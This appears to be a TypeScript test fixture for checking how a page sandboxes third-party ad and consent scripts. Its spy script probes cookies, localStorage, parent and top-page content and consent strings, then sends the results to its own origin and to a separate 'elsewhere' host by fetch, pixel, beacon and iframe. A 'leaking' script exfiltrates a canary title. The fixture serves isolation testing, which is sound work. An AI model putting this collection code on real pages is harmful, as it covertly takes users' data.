import { canaries } from './canaries.ts';

const spyScript = (work: string): string => `(() => {
  const seen = [];
  const look = (name, find) => { try { seen.push([name, String(find())]); } catch (error) { seen.push([name, 'refused']); } };
  look('given', () => JSON.stringify(outside.given));
  look('href', () => location.href);
  look('base', () => document.baseURI);
  look('referrer', () => document.referrer);
  look('cookie', () => document.cookie);
  look('storage', () => Object.keys(localStorage).join());
  look('parent', () => parent.location.href);
  look('title', () => parent.document.title);
  look('text', () => top.document.body.textContent);
  look('name', () => window.name);
  look('frame', () => frameElement.outerHTML);
  look('ancestors', () => [...location.ancestorOrigins].join());
  look('entries', () => performance.getEntries().map(({ name }) => name).join());
  look('tc', () => { let data; __tcfapi('getTCData', 2, (told) => { data = told; }); return JSON.stringify(data); });
  look('gpp', () => { let data; __gpp('ping', (told) => { data = told; }); return data.gppString; });
  look('usp', () => { let data; __uspapi('getUSPData', 1, (told) => { data = told; }); return data.uspString; });
  const own = new URL(document.currentScript.src).origin;
  const collected = fetch(own + '/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
  const pixel = new Image();
  const seenBy = new Promise((done) => { pixel.onload = pixel.onerror = done; });
  pixel.src = own + '/pixel?' + new URLSearchParams(seen);
  const elsewhere = new URL(document.currentScript.src).searchParams.get('elsewhere');
  new Image().src = elsewhere + '/pixel?' + new URLSearchParams(seen);
  fetch(elsewhere + '/collect', { method: 'POST', mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon?.(elsewhere + '/beacon', JSON.stringify(seen));
  document.body.append(Object.assign(document.createElement('iframe'), { src: elsewhere + '/frame' }));
  ${work}
})();`;

export const fillScript = spyScript("outside.say({ kind: 'filled', width: 300, height: 250 });");

/** What the tool that asks readers does: it has nothing to ask, or has a button for each answer. */
export const toolScripts = {
  // With that its frame goes, and with the frame whatever it is about to tell.
  silent: spyScript("Promise.allSettled([collected, seenBy]).then(() => outside.say({ kind: 'empty' }));"),
  asking: spyScript(`
    let hear;
    globalThis.__tcfapi = (command, version, listener) => { if (command === 'addEventListener') hear = listener; };
    const answer = (isYes) => {
      const consents = Object.fromEntries(Array.from({ length: 11 }, (_, at) => [at + 1, isYes]));
      hear({ eventStatus: 'useractioncomplete', purpose: { consents }, vendor: { consents: { 755: isYes } } }, true);
    };
    for (const [text, isYes] of [['Yes to all', true], ['No to all', false]]) {
      const onclick = () => setTimeout(answer, 100, isYes);
      document.body.append(Object.assign(document.createElement('button'), { textContent: text, onclick }));
    }
    const asks = setInterval(() => { if (hear) { clearInterval(asks); hear({ eventStatus: 'cmpuishown' }, true); } }, 50);
  `),
  /** As one that had learned a word of the page somehow would tell it. */
  leaking: `fetch(new URL('/collect?' + ${JSON.stringify(Buffer.from(canaries.title).toString('base64'))}, document.currentScript.src), { mode: 'no-cors' });`,
};
